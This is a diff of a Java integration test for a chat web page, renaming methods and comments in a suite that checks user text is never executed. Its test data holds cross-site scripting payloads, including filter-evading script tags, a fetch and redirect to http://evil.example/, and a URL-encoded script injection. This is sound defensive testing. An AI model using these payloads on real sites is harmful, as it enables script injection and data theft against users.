@@ -10,7 +10,7 @@ import java.util.Map;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 
-/** What people write is never executed, whoever's server tells it and wherever it stands. */
+/** Checks that texts of users are never executed, wherever the page shows them. */
 @Tag("full")
 class InjectionIT extends PageTestBase {
 
@@ -21,8 +21,8 @@ class InjectionIT extends PageTestBase {
             "fetch('http://evil.example/')",
             "location='http://evil.example/'");
 
-    /** %s is the effect. */
-    private static final List<String> WAYS = List.of(
+    /** Markup in which {@code %s} stands for the effect. */
+    private static final List<String> TEMPLATES = List.of(
             "<script>%s</script>",
             "<ScRiPt >%s</sCrIpT>",
             "<scr<script>ipt>%s</scr</script>ipt>",
@@ -66,7 +66,7 @@ class InjectionIT extends PageTestBase {
 
     private static List<String> texts() {
         List<String> texts = new ArrayList<>();
-        WAYS.forEach(way ->
+        TEMPLATES.forEach(way ->
                 EFFECTS.forEach(effect -> texts.add(way.replace("%s", effect).replace("%%", "%"))));
         return texts;
     }
@@ -83,14 +83,14 @@ class InjectionIT extends PageTestBase {
             dialog.dismiss();
         });
 
-        texts.forEach(text -> server.say("lobby", text, text));
+        texts.forEach(text -> server.publish("lobby", text, text));
         assertThat(page.texts()).hasCount(texts.size());
         assertThat(page.transcript())
-                .isEqualTo(texts.stream().map(InjectionIT::shown).toList());
-        asTopicsAndPeople(texts);
-        asRooms(texts);
-        asCommands(page, texts);
-        asAPersonToTalkTo(page, texts);
+                .isEqualTo(texts.stream().map(InjectionIT::rendered).toList());
+        sendAsTopicsAndUsers(texts);
+        sendAsRooms(texts);
+        typeAsCommands(page, texts);
+        sendAsDirectMessages(page, texts);
         page.page().keyboard().press("Control+k");
 
         assertThat(page.page().evaluate("() => window.hits")).isEqualTo(0);
@@ -107,8 +107,8 @@ class InjectionIT extends PageTestBase {
         page.isWithoutFault();
     }
 
-    /** Without what the markup takes away: the fences of a block, the signs of code, bold and italic. */
-    private static String shown(String text) {
+    /** Removes the markup that is not shown: the fences of a block, the signs of code, bold and italic. */
+    private static String rendered(String text) {
         if (text.startsWith("```")) {
             return text.replaceFirst("```html\n", "").replaceFirst("\n```$", "");
         }
@@ -116,21 +116,22 @@ class InjectionIT extends PageTestBase {
         return marked ? text.substring(1, text.length() - 1) : text;
     }
 
-    private void asTopicsAndPeople(List<String> texts) {
+    private void sendAsTopicsAndUsers(List<String> texts) {
         for (String text : texts) {
-            server.tell("lobby", Map.of("type", "typing", "name", text));
-            server.tell("lobby", Map.of("type", "topic", "text", text, "by", text, "at", "2026-11-20T14:03:00Z"));
-            server.tell("lobby", Map.of("type", "joined", "name", text, "via", text, "at", "2026-11-20T14:03:00Z"));
+            server.sendEvent("lobby", Map.of("type", "typing", "name", text));
+            server.sendEvent("lobby", Map.of("type", "topic", "text", text, "by", text, "at", "2026-11-20T14:03:00Z"));
+            server.sendEvent(
+                    "lobby", Map.of("type", "joined", "name", text, "via", text, "at", "2026-11-20T14:03:00Z"));
         }
     }
 
-    private void asRooms(List<String> texts) {
-        server.list(texts.stream()
+    private void sendAsRooms(List<String> texts) {
+        server.sendRoomList(texts.stream()
                 .map(text -> Map.<String, Object>of("name", text, "topic", text, "people", 1))
                 .toList());
     }
 
-    private static void asCommands(Tab page, List<String> texts) {
+    private static void typeAsCommands(Tab page, List<String> texts) {
         page.page().evaluate("""
                 texts => {
                   const box = document.getElementById('message');
@@ -142,27 +143,27 @@ class InjectionIT extends PageTestBase {
                 }""", texts);
     }
 
-    private void asAPersonToTalkTo(Tab page, List<String> texts) {
+    private void sendAsDirectMessages(Tab page, List<String> texts) {
         for (String text : texts) {
-            server.tellQueue("direct", Map.of("from", text, "to", "ada", "text", text, "at", "2026-11-20T14:04:00Z"));
-            server.tellQueue("answers", Map.of("receipt", "none", "command", text, "lines", List.of(text)));
+            server.sendToQueue("direct", Map.of("from", text, "to", "ada", "text", text, "at", "2026-11-20T14:04:00Z"));
+            server.sendToQueue("answers", Map.of("receipt", "none", "command", text, "lines", List.of(text)));
         }
         assertThat(page.page().locator("#direct-list li")).hasCount(texts.size());
     }
 
     @Test
-    void anInjectedRoomInTheAddressOpensTheLobby() {
+    void injectedRoomInTheAddressOpensTheLobby() {
         Tab page = page("/?room=%22%3E%3Cscript%3Ehit()%3C/script%3E").joined("ada");
         assertThat(page.log("lobby")).isAttached();
         page.isWithoutFault();
     }
 
     @Test
-    void anInjectedNameIsSaidToBeNone() {
+    void injectedNicknameIsShownAsText() {
         Tab page = page("/");
         for (String text : List.of("<b>x</b>", "<i/onx=1>", "'\"><x>")) {
             page.nameBox().fill(text);
-            server.refuseJoin(Map.of(
+            server.refuseNextLogin(Map.of(
                     "code", "name-invalid", "sentence", "“" + text + "” will not do.", "suggestions", List.of(text)));
             page.joinButton().click();
             assertThat(page.page().locator("#name-help")).containsText("“" + text + "” will not do.");
